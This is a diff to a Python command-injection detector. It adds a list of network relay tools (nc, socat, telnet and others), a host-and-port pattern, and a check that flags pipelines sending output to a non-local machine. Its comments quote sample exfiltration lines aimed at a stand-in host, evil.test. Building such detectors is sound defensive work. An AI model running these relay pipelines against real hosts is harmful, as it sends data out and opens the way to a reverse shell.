@@ -127,6 +127,30 @@ _CLOSERS = ")\x60'\";|&"  # what may close a word a wrapper is given
 # PowerShell names that fetch, run or load code, or list accounts and processes.
 _POWERSHELL_HARM = re.compile(r"(?:invoke-|start-process|new-object|add-type|set-executionpolicy|get-wmiobject|"
                               r"get-ciminstance|get-localuser|get-localgroup|get-credential|get-process)")
+# Programs that carry what they read to another machine: a pipeline ending in one of them sends its output off
+# ("hostname | nc evil.test 4444", "id | socat - tcp:evil.test:4444"), the shape of exfiltration and of a
+# reverse shell's first step, whatever command produced it. Sent to the machine itself (localhost, 127.x) it
+# is someone testing a server.
+RELAYS = frozenset("nc ncat netcat socat telnet".split())
+_SENT_OUT = 0.9
+# A host and a port among a relay's words: `nc -q1 evil.test 4444`, `telnet 10.0.0.5 23`, `tcp:host:port`.
+_DESTINATION = re.compile(r"(?:^|[ \t])(?:-[a-z0-9]+[ \t]+)*(?:[a-z0-9-]+[:-])?(?:connect[:-])?"
+                          r"(\[[0-9a-f:]+\]|[a-z0-9][a-z0-9.-]{0,252})[ \t:]+\d{1,5}(?:[ \t;|&,)]|$)")
+_LOOPBACK = re.compile(r"^(?:localhost|127(?:\.\d{1,3}){3}|\[::1\]|0\.0\.0\.0|ip6-localhost)$")
+
+
+def sends_out(name: str, rest: str) -> bool:
+    """Whether the command `name` given `rest` (the rest of its line) connects to another machine's port: a
+    relay (`RELAYS`) with a host and a port that is not the machine itself."""
+    if name not in RELAYS:
+        return False
+    for match in _DESTINATION.finditer(rest.split("|", 1)[0]):
+        host = match[1]
+        if host[:1] != "-" and not host.isdigit() and _LOOPBACK.match(host) is None:
+            return True
+    return False
+
+
 _TALKED_CALL = 0.5  # an exec call of an everyday command inside a sentence: worth an alert, not a block
 # An exec call of an everyday command inside a pasted program (the caller's code gate): what the program does
 # on its author's machine, a note. A harmful command (`harmful`) weighs as anywhere else.
@@ -327,6 +351,8 @@ def _separated(text: str, found: list[Injected], original: str | None = None) ->
             # talk about a command, a command line shown after a sentence, or a message that is itself a
             # command line of a program the lists do not name: an injection only when the command does harm
             command_line = not harmful(name, _line_rest(text, name_end))
+        if command_line and separator == "|" and sends_out(name, _line_rest(text, name_end)):
+            command_line = False  # a pipeline whose output leaves for another machine
         if not command_line:
             # nothing, a quote or a value before the separator: something was broken out of
             found.append(Injected(sep_start, name_end, 0.9, "injected-command"))
